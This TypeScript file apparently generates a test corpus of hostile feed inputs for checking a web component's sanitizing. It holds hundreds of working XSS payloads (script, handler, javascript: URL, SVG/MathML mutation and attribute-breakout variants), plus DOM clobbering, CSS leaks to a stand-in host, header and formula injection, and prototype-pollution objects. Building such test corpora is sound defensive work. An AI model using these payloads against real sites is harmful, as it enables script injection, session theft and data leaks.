/**
 * What a hostile feed may send, made from tables. Each payload runs a piece of code if a page lets it; the code says
 * which payload it was. Hosts end in `.invalid`: no request finds anybody.
 */

/** From the code that a payload is to run, the payload. */
type Make = (code: string) => string;

const EVIL = 'https://evil.invalid';
const entities = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
const hexEntities = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)}`).join('');
const padded = (text: string) =>
  [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(7, '0')}`).join('');
const percent = (text: string) => [...text].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');

// ---- script elements, as they may be written

const SCRIPTS: readonly Make[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<ScRiPt\n>${js}</sCrIpT\t>`,
  (js) => `<script/x>${js}</script>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script type="text/javascript;">${js}</script>`,
  (js) => `<script language=vbscript>${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<script src="data:text/javascript;base64,${btoa(js)}"></script>`,
  (js) => `<script src="${EVIL}/x.js">${js}</script>`,
  (js) => `<script src="//evil.invalid/y.js" async defer>${js}</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<<script>${js}//<</script>`,
  (js) => `<script>${js}`,
  (js) => `<script>/*<!--<script>*/${js}//--></script>`,
  (js) => `<script>\u2028${js}</script>`,
  (js) => `<scr\0ipt>${js}</scr\0ipt>`,
  (js) => `<script\0>${js}</script>`,
  (js) => `<script\x0c>${js}</script>`,
  (js) => `<p><b><i><script>${js}</script></i></b></p>`,
  (js) => `<table><tr><td><script>${js}</script></table>`,
  (js) => `<table><script>${js}</script></table>`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `\uff1cscript\uff1e${js}\uff1c/script\uff1e`,
];

// ---- handlers: elements × events, and ways to write them

const HOLDERS = [
  'img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'a href=#', 'p', 'td', 'marquee',
  'iframe', 'button', 'form', 'object data=x', 'textarea autofocus', 'math', 'custom-element',
]; // prettier-ignore
const EVENTS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationend', 'onpointerenter', 'onbeforetoggle',
  'ontransitionend', 'onwheel', 'oncopy', 'oncontentvisibilityautostatechange',
]; // prettier-ignore
const HANDLERS: readonly Make[] = HOLDERS.flatMap((holder, i) =>
  EVENTS.filter((_, j) => (i + j) % 2 === 0).map(
    (event): Make =>
      (js) =>
        `<${holder} ${event}=${js}>x</${holder.split(' ')[0]}>`,
  ),
);
const WRITTEN: readonly Make[] = [
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img src=x onerror='${js}'>`,
  (js) => `<img src=x onerror=\`${js}\`>`,
  (js) => `<IMG SRC=x ONERROR=${js}>`,
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<img\nsrc=x\nonerror\n=\n${js}>`,
  (js) => `<img\tsrc=x\tonerror\t=\t${js}>`,
  (js) => `<img\x0csrc=x\x0conerror=${js}>`,
  (js) => `<img src=x onerror=${entities(js)}>`,
  (js) => `<img src=x onerror=${hexEntities(js)}>`,
  (js) => `<img src=x onerror="${padded(js)}">`,
  (js) => `<img src=x onerror="eval(atob('${btoa(js)}'))">`,
  (js) => `<img src=x one\0rror=${js}>`,
  (js) => `<img src=x \0onerror=${js}>`,
  (js) => `<img src="x" title="a"onerror=${js}>`,
  (js) => `<img """><img src=x onerror=${js}>">`,
  (js) => `<img src='x\0' onerror=${js}`,
  (js) => `<img src=x onerror=${js}//`,
  (js) => `<image src=x onerror=${js}>`,
  (js) => `<img srcset=x onerror=${js}>`,
  (js) => `<picture><source srcset=x><img onerror=${js}></picture>`,
  (js) => `<img src=x:x onerror=${js} alt="><b>">`,
  (js) => `<img x:onerror=1 src=x onerror=${js}>`,
  (js) => `<p onclick=1 onclick=${js} style=display:block>x`,
];

// ---- addresses

const DATA = (js: string) => `data:text/html,<script>${js}</script>`;
/** Alone they are what a field for an address holds; in holders they are markup. */
const ADDRESSES: readonly Make[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `\tjavascript:${js}`,
  (js) => `\njavascript:${js}`,
  (js) => `\x01javascript:${js}`,
  (js) => `\x1fjavascript:${js}`,
  (js) => `\0javascript:${js}`,
  (js) => `\ufeffjavascript:${js}`,
  (js) => `\u200bjavascript:${js}`,
  (js) => `\u00a0javascript:${js}`,
  (js) => `\u202ejavascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `java\r\nscript:${js}`,
  (js) => `java\0script:${js}`,
  (js) => `java\u00adscript:${js}`,
  (js) => `javascript\t:${js}`,
  (js) => `javascript\n:${js}`,
  (js) => `javascript :${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `javascript://evil.invalid/%0d%0a${js}`,
  (js) => `javascript:/*--></title></style>*/${js}`,
  (js) => `javascript:void(${js})`,
  (js) => `javascript:${percent(js)}`,
  (js) => `javascript&colon;${js}`,
  (js) => `javascript&#58;${js}`,
  (js) => `javascript&#x3A;${js}`,
  (js) => `java&Tab;script:${js}`,
  (js) => `java&NewLine;script&colon;${js}`,
  (js) => `java&#9;script:${js}`,
  (js) => `&#1;javascript:${js}`,
  (js) => `&#14;  javascript:${js}`,
  (js) => `${entities('javascript:')}${js}`,
  (js) => `${hexEntities('javascript:')};${js}`,
  (js) => `${padded('javascript:')};${js}`,
  (js) => `\\x6aavascript:${js}`,
  (js) => `\\u006aavascript:${js}`,
  (js) => `javascript\uff1a${js}`,
  (js) => `feed:javascript:${js}`,
  (js) => `view-source:javascript:${js}`,
  (js) => `jar:javascript:${js}!/`,
  (js) => `vbscript:${js}`,
  (js) => `VbScript:${js}`,
  (js) => `livescript:${js}`,
  (js) => `mocha:${js}`,
  DATA,
  (js) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  (js) => `DATA:text/html;charset=utf-7,+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`,
  (js) => `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${js}</script>`,
  (js) => `data:text/javascript,${js}`,
  (js) => `data:,${js}`,
  (js) => `blob:${EVIL}/${js}`,
  (js) => `filesystem:${EVIL}/${js}`,
  (js) => `file:///etc/passwd#${js}`,
  (js) => `about:blank#${js}`,
  (js) => `chrome://settings/${js}`,
  (js) => `intent://evil/#Intent;scheme=javascript;S.a=${js};end`,
  (js) => `ms-word:ofe|u|${EVIL}/${js}`,
  (js) => `https://user:pass@evil.invalid/${js}`,
  (js) => `https://press.example.org@evil.invalid/${js}`,
  (js) => `//evil.invalid/${js}`,
  (js) => `\\\\evil.invalid\\${js}`,
  (js) => `/\\evil.invalid/${js}`,
  (js) => `https:evil.invalid/${js}`,
  (js) => `https://evil.invalid/"onmouseover="${js}`,
  (js) => `https://evil.invalid/'><script>${js}</script>`,
  (js) => `https://[::1/${js}`,
  (js) => `https://evil.invalid:99999/${js}`,
  (js) => `https://xn--/${js}`,
  (js) => `mailto:a@b.example?bcc=c@evil.invalid&body=${js}`,
  (js) => `mailto:a@b.example%0d%0abcc:c@evil.invalid?x=${js}`,
  (js) => `tel:+41227179111;phone-context=${js}`,
  (js) => `tel:*%2306%23${js}`,
];
const entity = (address: string) => address.replace(/"/g, '&quot;');
const ADDRESS_HOLDERS: readonly ((address: string) => string)[] = [
  (a) => `<a href="${a}" target=_blank>x</a>`,
  (a) => `<form action="${a}"><button>x</button></form>`,
  (a) => `<form><button formaction="${a}">x</button><input type=image formaction="${a}"></form>`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<img src="${a}" lowsrc="${a}" dynsrc="${a}" longdesc="${a}">`,
  (a) => `<object data="${a}"></object><embed src="${a}">`,
  (a) => `<svg><a xlink:href="${a}"><text y=9>x</text></a><use href="${a}"/></svg>`,
  (a) => `<math><maction actiontype=statusline xlink:href="${a}" href="${a}">x</maction></math>`,
  (a) => `<svg><animate attributeName=href values="${a}"/><a><set attributeName=href to="${a}"/></a></svg>`,
  (a) => `<base href="${a}"><a href="y">x</a>`,
  (a) => `<map name=m><area href="${a}" shape=default></map><img usemap=#m src=x>`,
  (a) => `<blockquote cite="${a}"><q cite="${a}"><ins cite="${a}">x`,
  (a) => `<body background="${a}"><table background="${a}"><td background="${a}">x`,
  (a) => `<video poster="${a}" src="${a}"><source src="${a}"><track src="${a}"></video>`,
  (a) => `<link rel=stylesheet href="${a}"><link rel=import href="${a}"><link rel=prefetch href="${a}">`,
];
const IN_MARKUP: readonly Make[] = [
  ...ADDRESSES.map(
    (address): Make =>
      (js) =>
        `<a href="${entity(address(js))}">x</a>`,
  ),
  ...ADDRESS_HOLDERS.flatMap((holder) => [
    (js: string) => holder(`javascript:${js}`),
    (js: string) => holder(entity(DATA(js))),
    (js: string) => holder(`${EVIL}/${js}`),
  ]),
];

// ---- other namespaces, and what a parser may make of them the second time

const FOREIGN: readonly Make[] = [
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:text/javascript,${js}"/></svg>`,
  (js) => `<svg><script xlink:href="data:,${js}"></script></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) => `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
  (js) => `<svg><desc><img src=x onerror=${js}></desc></svg>`,
  (js) => `<svg><title><img src=x onerror=${js}></title></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  (js) => `<svg><set onbegin=${js} attributename=x></svg>`,
  (js) => `<svg><image href=x onerror=${js}></svg>`,
  (js) => `<svg><style><img src=x onerror=${js}></style></svg>`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  (js) => `<svg><p><style><!--</style><img src=x onerror=${js}>--></style>`,
  (js) => `<svg><![CDATA[<img src=x onerror=${js}>]]></svg>`,
  (js) => `<svg><!--<p>--><img src=x onerror=${js}></svg>`,
  (js) => `<svg><a><rect width=99 height=99 /><animate attributeName=href to=javascript:${js} /></a></svg>`,
  (js) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js}</handler></svg>`,
  (js) => `<svg><discard onbegin=${js}></svg>`,
  (js) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${js}</x:script></svg>`,
  (js) => `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  (js) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  (js) => `<math><mi><mglyph><img src=x onerror=${js}></mglyph></mi></math>`,
  (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  (js) =>
    `<math><annotation-xml><style><img title="</style><img src=x onerror=${js}>"></annotation-xml></math>`,
  (js) => `<math href="javascript:${js}">x</math>`,
  (js) => `<p><svg><desc></p><img src=x onerror=${js}>`,
  (js) => `<b><svg></b><b><foreignobject></b><img src=x onerror=${js}>`,
  (js) => `<table><svg><tr><td><img src=x onerror=${js}></table>`,
  (js) => `<a><svg><a><foreignObject><a href=javascript:${js}>x</a>`,
  (js) => `<select><svg><style><img src=x onerror=${js}></style></select>`,
  (js) => `<h1><h2><svg><h3><img src=x onerror=${js}></h3>`,
  (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
];

// ---- containers whose content is read in another way

const CONTAINERS: readonly Make[] = [
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
  (js) => `<div><template shadowrootmode=open><script>${js}</script></template></div>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<noscript><style></noscript><img src=x onerror=${js}>`,
  (js) => `<iframe><img title="</iframe><img src=x onerror=${js}>"></iframe>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
  (js) => `<iframe srcdoc='<body onload=${js}>' sandbox="allow-scripts allow-same-origin"></iframe>`,
  (js) => `<frameset onload=${js}><frame src="javascript:${js}"></frameset>`,
  (js) => `<frameset><frame src="data:text/html,<script>${js}</script>"></frameset>`,
  (js) => `<html><head><script>${js}</script></head><frameset onpageshow=${js}>`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `<object classid=x><param name=src value="javascript:${js}"></object>`,
  (js) => `<embed src="data:text/html,<script>${js}</script>" type=text/html>`,
  (js) => `<embed src="javascript:${js}" type=text/html>`,
  (js) => `<applet code="javascript:${js}" archive=x>x</applet>`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  (js) => `<meta http-equiv=Set-Cookie content="a=${js}">`,
  (js) =>
    `<meta http-equiv=Content-Security-Policy content="default-src * 'unsafe-inline'"><script>${js}</script>`,
  (js) => `<title><img title="</title><img src=x onerror=${js}>"></title>`,
  (js) => `<textarea></textarea><img src=x onerror=${js}></textarea>`,
  (js) => `<textarea><img title="</textarea><img src=x onerror=${js}>">`,
  (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  (js) => `<noembed><p title="</noembed><img src=x onerror=${js}>">`,
  (js) => `<noframes><p title="</noframes><img src=x onerror=${js}>">`,
  (js) => `<plaintext><img src=x onerror=${js}>`,
  (js) => `<listing>&lt;img src=x onerror=${js}&gt;</listing>`,
  (js) => `<style><img title="</style><img src=x onerror=${js}>">`,
  (js) => `<select><option><img src=x onerror=${js}></option></select>`,
  (js) => `<select><template><img src=x onerror=${js}></template></select>`,
  (js) => `<datalist><option value="${js}"></datalist><keygen autofocus onfocus=${js}>`,
  (js) => `<isindex action=javascript:${js} type=image>`,
  (js) => `<form id=f></form><button form=f formaction=javascript:${js}>x`,
  (js) => `<input type=hidden oncontentvisibilityautostatechange=${js} style=content-visibility:auto>`,
  (js) => `<dialog open onclose=${js}><form method=dialog><button>x</button></form></dialog>`,
  (js) => `<portal src="javascript:${js}"></portal><fencedframe src="javascript:${js}"></fencedframe>`,
  (js) => `<button popovertarget=x>x</button><p popover id=x onbeforetoggle=${js}>y`,
  (js) => `<slot name=heading><img src=x onerror=${js}></slot><p slot=heading>x`,
  (js) => `<iom-news-list src="data:application/json,{}" onclick=${js}>x</iom-news-list>`,
  (js) => `<p is=x-y part=link exportparts=link onclick=${js}>x</p>`,
];

// ---- broken markup, and ways out of an attribute

const BROKEN: readonly Make[] = [
  (js) => `<!--<img src="--><img src=x onerror=${js}>">`,
  (js) => `<!-- <img src=x onerror=${js}>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!---><img src=x onerror=${js}>-->`,
  (js) => `<!--x--!><img src=x onerror=${js}>-->`,
  (js) => `<!-- -- --><img src=x onerror=${js}>`,
  (js) => `<![CDATA[<img src=x onerror=${js}>]]>`,
  (js) => `<![CDATA[><img src=x onerror=${js}>`,
  (js) => `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${js}>">]>&y;`,
  (js) => `<?xml version="1.0"?><?x ><img src=x onerror=${js}>?>`,
  (js) => `<%<img src=x onerror=${js}>%>`,
  (js) => `</ <img src=x onerror=${js}>`,
  (js) => `</p/onclick=${js}>x`,
  (js) => `<//img/src=x onerror=${js}>`,
  (js) => `<a<b<img src=x onerror=${js}>`,
  (js) => `<p title="a" title='"><img src=x onerror=${js}>'>x`,
  (js) => `<p title="\`><img src=x onerror=${js}>">x`,
  (js) => `<img alt="\`\` onerror=${js} src=x" src=x>`,
  (js) => `"><img src=x onerror=${js}>`,
  (js) => `'><img src=x onerror=${js}>`,
  (js) => `\`><img src=x onerror=${js}>`,
  (js) => `" onmouseover="${js}`,
  (js) => `' onmouseover='${js}`,
  (js) => `x onerror=${js} autofocus onfocus=${js} `,
  (js) => `"/><script>${js}</script><p title="`,
  (js) => `--><script>${js}</script><!--`,
  (js) => `]]><script>${js}</script>`,
  (js) => `</title></style></textarea></script><script>${js}</script>`,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `<p v-on:click="${js}" @click="${js}" ng-app ng-csp ng-click=$event.view.${js}>{{${js}}}</p>`,
  (js) => `<?lit$123456789$><img src=x onerror=${js}>`,
  (js) => `lit$123456789$ {{lit-123}} <!--?lit$1$-->${js}`,
  (js) =>
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`,
  (js) => `<p>\0<\0img src=x onerror=${js}>\0</p>`,
  (js) => `\0`.repeat(40) + `<img src=x onerror=${js}>`,
  (js) => `\ud83d<img src=x onerror=${js}>\ude00`,
  (js) => `\ufffe\uffff<img src=x onerror=${js}>`,
  (js) => `<table><tr><p onclick=${js}>x<table><td><a href=javascript:${js}>y</table>`,
  (js) => `<a href=x><a href=javascript:${js}><p><a href=y>z`,
  (js) => `<b><p onclick=${js}></b><i></p></i>x`,
];

// ---- names that hide the page's own

const CLOBBER: readonly Make[] = [
  'attributes', 'childNodes', 'parentNode', 'nodeName', 'ownerDocument', 'textContent', 'innerHTML', 'removeChild',
  'getAttribute', 'body', 'cookie', 'currentScript', 'location', 'customElements', 'litHtmlVersions', '__proto__', 'constructor',
  'toString', 'defaultView', 'getElementById',
].map(
  (name): Make =>
    (js) =>
      `<form id=${name} name=${name}><input name=${name} id=${name}><img name=${name} src=x onerror=${js}></form><a id=${name} name=${name} href="cid:${js}">x</a>`,
); // prettier-ignore

// ---- style

const STYLES: readonly Make[] = [
  (js) => `<p style="background:url(javascript:${js})">x</p>`,
  (js) => `<p style="background:url('${EVIL}/${js}')">x</p>`,
  (js) => `<p style="width:expression(${js})">x</p>`,
  (js) => `<p style="behavior:url(#default#time2);-moz-binding:url(${EVIL}/${js})">x</p>`,
  (js) => `<p style="position:fixed;inset:0;z-index:9999">x</p><b onclick=${js}>`,
  (js) => `<style>@import '${EVIL}/${js}.css';</style>`,
  (js) => `<style>*{animation:x 1s}@keyframes x{}</style><p onanimationstart=${js}>x</p>`,
  (js) => `<style>p{background:url(${EVIL}/${js})}</style><p>x</p>`,
  (js) => `<style>input[value^=a]{background:url(${EVIL}/a)}</style><p onclick=${js}>`,
  (js) => `<style>:host,*{display:none!important}</style><p onclick=${js}>`,
  (js) => `<link rel=stylesheet href="data:text/css,*{display:none}"><p onclick=${js}>`,
  (js) => `<link rel=stylesheet href="${EVIL}/${js}.css">`,
  (js) => `<link rel=preload as=script href="${EVIL}/${js}"><link rel=dns-prefetch href=//evil.invalid>`,
  (js) => `<svg><style>*{background:url(${EVIL}/${js})}</style></svg>`,
  (js) => `<font color="red;x:url(${js})" face=x size=99><basefont size=99>x</font>`,
  (js) => `<p class="base list item link visually-hidden" id=heading part=link onclick=${js}>x`,
  (js) => `<marquee behavior=alternate onstart=${js} loop=1 width=0>x</marquee><blink>y</blink>`,
  (js) => `<table width=99999 height=99999 cellpadding=9999 onclick=${js}><td width=99999 bgcolor=red>x`,
  (js) => `<img src="${EVIL}/${js}" style="position:fixed" width=99999999 height=99999999 hspace=9999>`,
  (js) => `</style><style>@font-face{font-family:x;src:url(${EVIL}/${js})}</style>`,
];

// ---- what reads as something else

const SPOOFS: readonly Make[] = [
  ...['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c', '\u200b', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u3164', '\u034f'].map(
    (mark): Make => (js) => `${mark}gpj.${mark}exe ${js} <b>${mark}x</b><script>${js}</script>`,
  ), // prettier-ignore
  (js) => `<bdo dir=rtl><a href="${EVIL}/${js}">gro.elpmaxe.sserp//:sptth</a></bdo>`,
  (js) => `<a href="https://\u0440ress.example.org/${js}">press.example.org</a>`,
  (js) => `<p dir=rtl lang="x-klingon" title="\u202e${js}">x</p>`,
  (js) => `Z\u0351\u036b\u0343\u036a\u0302\u0349`.repeat(200) + `<script>${js}</script>`,
  (js) => `\r\nBcc: a@evil.invalid\r\n\r\n${js}`,
  (js) => `a@b.example\r\nbcc:${js}@evil.invalid`,
  (js) => `a@b.example?subject=x&bcc=${js}@evil.invalid`,
  (js) => `"${js}"@b.example`,
  (js) => `+41 22 717 91 11;ext=1\r\nTEL:${js}`,
  (js) => `=cmd|'/c calc'!A1${js}`,
  (js) => `END:VCARD\r\nBEGIN:VCARD\r\nFN:${js}`,
];

/** Words that pass for values of a narrow kind, and may end a formatter. */
const VALUES = [
  '', ' ', 'x', '1', '0', '-1', '1e999', 'NaN', 'null', 'undefined', 'true', '__proto__', 'constructor', 'hasOwnProperty',
  'en-a', 'en-x', 'en-a-a', 'de-de-de-de', 'abc-12345678-12345678', 'x-klingon', 'i-default', 'en_US_POSIX', 'zz-ZZ-zzzz', 'en-u-nu-zzzz',
  'sl-rozaj-rozaj', '0000-00-00', '9999-12-31', '0000-01-01', '2026-02-30', '+275760-09-14', '2026-01-01T24:00:00Z',
  '2026-01-01T00:00:60Z', '1970-01-01T00:00:00+14:59', '-000001-01-01', '0001-01-01T00:00:00+14:00', 'a@b', 'a@-.-', 'a@b@c.example',
  'mailto:mailto:a@b.example', '+', '+0', '000000000000000', '٠٠٠٠٠', 'ext ext ext 1', '#1', 'https:', 'https://', 'http:///', '//', '/', '#',
  '?', '.', 'mailto:', 'tel:', 'webcal:', 'mailto:@', 'https://a..b/', 'https://%00/', 'https://a.example/%', 'https://\u{1f600}/',
]; // prettier-ignore

const HUGE: readonly Make[] = [
  (js) => `${'<b>'.repeat(4000)}x<script>${js}</script>`,
  (js) => `${'<div><p>'.repeat(2000)}<img src=x onerror=${js}>`,
  (js) => `${'<svg><foreignObject>'.repeat(600)}<img src=x onerror=${js}>`,
  (js) => `${'<table><tr><td>'.repeat(600)}<img src=x onerror=${js}>`,
  (js) => `${'<template>'.repeat(600)}<img src=x onerror=${js}>`,
  (js) => `<p title="${'x'.repeat(30_000)}" onclick=${js}>x</p>`,
  (js) =>
    `<p ${'a'.repeat(10_000)}=1 ${Array.from({ length: 800 }, (_, i) => `onx${i}=${i}`).join(' ')} onclick=${js}>x</p>`,
  (js) => `${'&lt;'.repeat(5000)}script>${js}`,
  (js) => `${'x'.repeat(30_000)}<script>${js}</script>`,
  (js) => `${'<'.repeat(10_000)}script>${js}</script>`,
  (js) => `<a href="https://a.example/${'%2e'.repeat(5000)}" onclick=${js}>x</a>`,
  (js) => `<a href="${' '.repeat(5000)}javascript:${js}">x</a>`,
];

const CONSTANT = VALUES.map(
  (value): Make =>
    () =>
      value,
);

const MAKERS: readonly Make[] = [
  ...SCRIPTS, ...HANDLERS, ...WRITTEN, ...ADDRESSES, ...IN_MARKUP, ...FOREIGN, ...CONTAINERS, ...BROKEN, ...CLOBBER, ...STYLES,
  ...SPOOFS, ...CONSTANT, ...HUGE,
]; // prettier-ignore

/** All payloads. Each runs the code made for its number. */
export const payloads = (codeFor: (number: number) => string): readonly string[] =>
  MAKERS.map((make, i) => make(codeFor(i)));

/** What stands where a text should, and is none. */
export const shapes = (code: string): readonly unknown[] => [
  null, true, false, 0, -1, 1e308, [], {}, [[]], [[[['x']]]],
  { _$litType$: 1, strings: { raw: [`<img src=x onerror=${code}>`] }, values: [] },
  { _$litType$: 1, strings: [`<script>${code}</script>`], values: [] },
  { _$litType$: 2, strings: ['<svg>'], values: [{}] },
  { _$litType$: { h: [`<img src=x onerror=${code}>`], el: {}, parts: [] }, values: [] },
  { _$litDirective$: 1, values: [] },
  { _$litDirective$: { directiveName: 'unsafeHTML' }, values: [`<img src=x onerror=${code}>`] },
  { nodeType: 1, nodeName: 'SCRIPT', localName: 'script', textContent: code },
  { nodeType: 11, childNodes: [{ nodeType: 3 }], firstChild: {} },
  { toString: 1 }, { valueOf: 1, toString: null }, { toString: 'x', toJSON: 'y', length: 3 },
  { length: 1e9 }, { then: 1 }, { then: code, catch: 1 }, { constructor: { prototype: { polluted: 1 } } },
  { cssText: `*{background:url(${EVIL})}`, _$cssResult$: true }, { handleEvent: code }, { createHTML: 1 }, { sanitize: 1 },
  { '': `<img src=x onerror=${code}>` }, { en: { en: code } }, { en: `<script>${code}</script>` },
  JSON.parse('{"__proto__":{"polluted":1},"en":"x"}'), [`javascript:${code}`, { en: code }], { text: { text: code } },
  { number: { number: 1 }, label: [] }, { name: { toString: 1 }, url: `javascript:${code}` }, Array.from({ length: 500 }, () => code),
]; // prettier-ignore
